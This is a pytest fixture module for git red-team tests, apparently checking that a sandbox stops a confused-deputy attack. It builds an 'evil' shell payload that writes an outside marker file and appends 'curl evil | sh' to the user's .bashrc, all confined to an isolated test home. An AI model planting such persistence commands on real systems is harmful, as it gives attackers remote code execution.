"""Shared by the git red-team files (test_git_deputy.py, test_user_drivers.py)."""

from __future__ import annotations

import shlex

import pytest

FILES = {"app.py": "x = 1\n", "pkg/core.py": "def f():\n    return 1\n", "README.md": "r\n"}


@pytest.fixture
def world(make_repo, tmp_path, isolated_home):
    repo = make_repo(FILES, name="user repo")
    bashrc = isolated_home / ".bashrc"
    bashrc.write_text("# the user's\n")
    marker = tmp_path / "outside" / "pwned"
    marker.parent.mkdir()
    # SQ_DEMO_BASHRC: only live()'s demonstration sets it, so that showing the
    # plant works does not touch the user's ~/.bashrc during the session (at
    # the "Landlock only" level verification would rightly blame the session).
    evil = (f"echo ran >> {shlex.quote(str(marker))}; "
            f"echo 'curl evil | sh' >> \"${{SQ_DEMO_BASHRC:-{bashrc}}}\"")
    return {"repo": repo, "marker": marker, "bashrc": bashrc, "evil": evil,
            "home": isolated_home}
